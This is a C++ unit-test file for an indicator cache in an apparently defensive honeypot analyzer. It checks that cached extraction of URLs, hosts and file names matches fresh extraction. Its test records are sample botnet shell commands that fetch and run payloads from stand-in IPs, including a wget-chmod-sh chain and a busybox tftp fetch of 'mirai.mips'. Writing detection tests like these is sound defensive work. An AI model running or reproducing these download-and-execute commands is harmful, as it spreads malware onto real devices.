// IndicatorCache: the same indicators as extracting each record afresh, for repeated records,
// records in between, after the cache has emptied itself at its id limit, for record ids past
// its record limit, after the caller's record ids restart, and after its KeyDictionary has
// emptied itself.
#include "analyze/intel/indicator_cache.h"

#include <gtest/gtest.h>

#include <span>
#include <string>
#include <vector>

#include "core/string_interner.h"

namespace busytrap::analyze::intel {
namespace {

std::vector<std::pair<IndicatorType, std::string>> fresh(std::string_view record) {
  IndicatorExtractor extractor;
  std::vector<Indicator> out;
  extractor.extract(record, out);
  std::vector<std::pair<IndicatorType, std::string>> flat;
  for (const Indicator& i : out) flat.emplace_back(i.type, i.value);
  return flat;
}

// The cache's answer, read back through the texts the dictionary reported learning. Record ids
// come from an interner of the record texts, as a worker's ChunkKeyCache gives them.
struct Cached {
  IndicatorCache cache;
  core::StringInterner records;
  KeyDictionary keys;
  std::vector<std::string> learnt;  // by dictionary id
  std::vector<std::string> chunk_learnt;

  Cached() { keys.begin_chunk(chunk_learnt); }

  std::vector<std::pair<IndicatorType, std::string>> get(std::string_view record) {
    return get(records.intern(record), record);
  }
  std::vector<std::pair<IndicatorType, std::string>> get(std::uint32_t record_id, std::string_view record) {
    std::vector<std::pair<IndicatorType, std::string>> flat;
    const std::span<const std::uint32_t> ids = cache.get(record_id, record, keys);
    learnt.insert(learnt.end(), chunk_learnt.begin(), chunk_learnt.end());
    chunk_learnt.clear();
    for (std::uint32_t id : ids) {
      EXPECT_LT(id, learnt.size());
      if (id >= learnt.size()) continue;
      flat.emplace_back(static_cast<IndicatorType>(learnt[id].front()), learnt[id].substr(1));
    }
    return flat;
  }
};

TEST(IndicatorCache, GivesWhatTheExtractorGives) {
  Cached cache;
  const std::vector<std::string> records = {
      "cd /tmp; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
      "/bin/busybox tftp -g -l dvrHelper -r mirai.mips 203.0.113.9",
      "enable",
      "/bin/busybox ABCDE",
      "ftpget -v -u anonymous -p x 192.0.2.1 ftp1.sh ftp1.sh; 192.0.2.1:8080",
  };
  for (int round = 0; round < 3; ++round) {
    for (const std::string& record : records) {
      EXPECT_EQ(cache.get(record), fresh(record)) << record;
    }
  }
  EXPECT_FALSE(fresh(records[0]).empty());
}

TEST(IndicatorCache, StaysCorrectAcrossItsReset) {
  Cached cache;
  const std::string kept = "wget http://203.0.113.5/a.sh";
  // Each record holds a URL, a host and a file name: past kMaxIds ids the cache empties.
  for (std::size_t i = 0; i < IndicatorCache::kMaxIds / 2; ++i) {
    const std::string record = "wget http://198.51.100.1/f" + std::to_string(i);
    ASSERT_EQ(cache.get(record), fresh(record)) << i;
    if (i % 50000 == 0) {
      ASSERT_EQ(cache.get(kept), fresh(kept)) << i;
    }
  }
  EXPECT_EQ(cache.get(kept), fresh(kept));
}

TEST(IndicatorCache, ExtractsRecordsPastItsRecordLimit) {
  Cached cache;
  const std::string a = "wget http://198.51.100.9/x.sh";
  const std::string b = "tftp -g -r y.arm 203.0.113.77";
  const auto far = static_cast<std::uint32_t>(IndicatorCache::kMaxRecords);
  EXPECT_EQ(cache.get(far, a), fresh(a));
  EXPECT_EQ(cache.get(far + 1, b), fresh(b));
  EXPECT_EQ(cache.get(far, a), fresh(a));
  EXPECT_EQ(cache.get(0, b), fresh(b));
}

// The caller's ids restart (its key cache started afresh): id 0 now names another text.
TEST(IndicatorCache, ForgetsRecordsWhenTheCallerSaysSo) {
  Cached cache;
  const std::string a = "wget http://198.51.100.9/x.sh";
  const std::string b = "cd /tmp; curl -O http://203.0.113.8:8080/z.mips";
  ASSERT_EQ(cache.get(0, a), fresh(a));
  ASSERT_EQ(cache.get(0, a), fresh(a));
  cache.cache.forget_records();
  EXPECT_EQ(cache.get(0, b), fresh(b));
  EXPECT_EQ(cache.get(1, a), fresh(a));
  EXPECT_EQ(cache.get(0, b), fresh(b));
}

// When the dictionary empties itself (at a chunk start) the cached ids would name other keys:
// the cache must notice and extract again.
TEST(IndicatorCache, StaysCorrectWhenItsDictionaryEmpties) {
  Cached cache;
  const std::string early = "wget http://203.0.113.5/a.sh";
  ASSERT_EQ(cache.get(early), fresh(early));
  std::size_t filler = 0;
  while (cache.keys.size() < KeyDictionary::kMaxKeys) cache.keys.intern("filler" + std::to_string(filler++));
  cache.chunk_learnt.clear();  // a new chunk's list
  ASSERT_TRUE(cache.keys.begin_chunk(cache.chunk_learnt));
  ASSERT_EQ(cache.keys.size(), 0u);
  cache.learnt.clear();
  const std::string other = "tftp -g -r x.arm 198.51.100.200";
  EXPECT_EQ(cache.get(other), fresh(other));
  EXPECT_EQ(cache.get(early), fresh(early));
}

}  // namespace
}  // namespace busytrap::analyze::intel
